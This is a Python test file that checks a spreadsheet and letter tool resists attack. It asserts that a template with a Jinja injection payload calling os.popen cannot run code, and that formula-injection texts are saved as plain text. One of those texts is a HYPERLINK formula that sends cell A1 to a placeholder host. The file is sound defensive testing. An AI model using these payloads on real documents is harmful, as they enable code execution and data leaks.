"""Issue 11, items 1 and 2, built by other engineers (work-12 on main): kept
here through the CLI so the abuse suite holds every attack of the issue.
Item 1: a letter template cannot run code. Item 2: text that starts with "="
is written as text, never as a formula, by export (xlsx) and the workbook."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path

import docx
import openpyxl
from hostile import ROOT, run_cli

from xltools.workbook.writer import write_workbook

ATTACKS = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此查看\")", "=NOW()", "+1+1", "@SUM(A1)",
           "-2+3")


def _plan_with_formula_texts():  # type: ignore[no-untyped-def]
    import sys

    sys.path.insert(0, str(ROOT / "tests"))
    from progress_fixtures import small_plan

    plan = small_plan()
    goals = []
    k = 0
    for g in plan.goals:
        tasks = []
        for t in g.tasks:
            reqs = []
            for r in t.requirements:
                reqs.append(replace(r, text=ATTACKS[k % len(ATTACKS)]))
                k += 1
            tasks.append(replace(t, name=ATTACKS[(k + 1) % len(ATTACKS)], requirements=tuple(reqs)))
        goals.append(replace(g, name=ATTACKS[k % len(ATTACKS)], tasks=tuple(tasks)))
    return replace(plan, goals=tuple(goals))


def test_item1_template_cannot_run_code(tmp_path: Path) -> None:
    wb = tmp_path / "wb.xlsx"
    write_workbook(_plan_with_formula_texts(), wb)
    marker = tmp_path / "ran"
    doc = docx.Document(str(ROOT / "templates" / "letter.docx"))
    doc.add_paragraph("{{ cycler.__init__.__globals__.os.popen('touch %s').read() }}" % marker)
    template = tmp_path / "evil.docx"
    doc.save(str(template))
    info, _, err = run_cli(["letters", str(wb), "-o", str(tmp_path / "out"), "--template",
                            str(template), "--date", "2019-03-25"], tmp_path)
    assert info["status"] == 1 and err.startswith("Error: ") and "Traceback" not in err, err
    assert not marker.exists() and not (tmp_path / "out").exists()


def _cells(path: Path) -> list[tuple[str, object]]:
    """(data type, value) of every cell holding one of the attack texts, as openpyxl reads it."""
    wb = openpyxl.load_workbook(path)  # formulas kept as formulas
    return [(c.data_type, c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if isinstance(c.value, str) and c.value.lstrip("=") in {a.lstrip("=") for a in ATTACKS}]


def test_item2_text_is_never_a_formula(tmp_path: Path) -> None:
    wb = tmp_path / "wb.xlsx"
    write_workbook(_plan_with_formula_texts(), wb)
    out = tmp_path / "export.xlsx"
    info, _, err = run_cli(["export", str(wb), "-o", str(out)], tmp_path)
    assert info["status"] == 0, err
    for path in (wb, out):
        cells = _cells(path)
        assert cells and all(kind == "s" for kind, _ in cells), (path, cells)
        assert {"=NOW()", "+1+1"} <= {value for _, value in cells}, path
